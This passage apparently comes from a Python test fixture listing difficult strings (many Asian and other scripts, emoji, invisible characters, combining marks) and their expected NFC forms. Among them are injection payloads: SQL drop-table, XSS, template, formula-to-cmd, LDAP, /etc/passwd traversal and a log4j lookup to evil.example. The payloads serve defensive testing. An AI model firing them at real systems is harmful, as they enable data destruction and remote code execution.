    "astral kanji": "𠮷野家の𠮷",
    "CP932 extension": "髙﨑①㈱№℡㍻",
    "compatibility kanji": "神\ufa19 福\ufa1b 都\ufa26 﨟",
    "Japanese": "ＡＳＥＡＮ日本法務協議　第２回ｱｲｳ～〜−",
    "Thai": "กระทรวงยุติธรรม น้ำ",
    "Khmer": "ក្រសួងយុត្តិធម៌",
    "Lao": "ກະຊວງຍຸຕິທຳ",
    "Burmese": "ဥပဒေရေးရာ ဝန်ကြီးဌာန",
    "Burmese with joiner": "က\u200bခ",
    "Jawi": "كمنترين كأديلن",
    "Arabic with marks": "قَانُون\u200f",
    "Vietnamese": "Bộ Tư pháp",
    "Tetum": "Ministériu Justisa",
    "Turkish i": "İstanbul ıı",
    "family emoji": "👨‍👩‍👧‍👦 🇯🇵 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ⚖️",
    "variation sequence": "葛\U000e0100城",
    "zero-width non-joiner": "می\u200cخواهم",
    "16 marks": "x" + "\u0327" * 16,
    "SQL": "'; drop table events; --",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "format": "%s%n%x {0.__class__} {title}",
    "formula": "=1+1|cmd' /c calc'!A0",
    "plus": "+66 2",
    "zeros": "007",
    "null as text": "null",
    "backslashes": "C:\\new\\table \\u0000 \\",
    "quotes": "\"'`´‘’“”«»「」",
    "entity": "&lt;&amp;&#0;",
    "LDAP and path": "*)(uid=*))(|(uid=* ../../etc/passwd",
    "log4j": "${jndi:ldap://evil.example/a}",
    "blanks around": " two  blanks ",
    "2 000 characters": "法" * 2000,
}
"""What comes back byte for byte."""
COMPOSED = {
    "Vietnamese in parts": ("Bo\u0323\u0302 Tư pháp", "Bộ Tư pháp"),
    "kana in parts": ("カ\u3099イト", "ガイト"),
    "Hangul in parts": ("\u1112\u1161\u11ab", "한"),
    "marks in another order": ("a\u0302\u0323", "ậ"),
}
"""What is stored as NFC."""
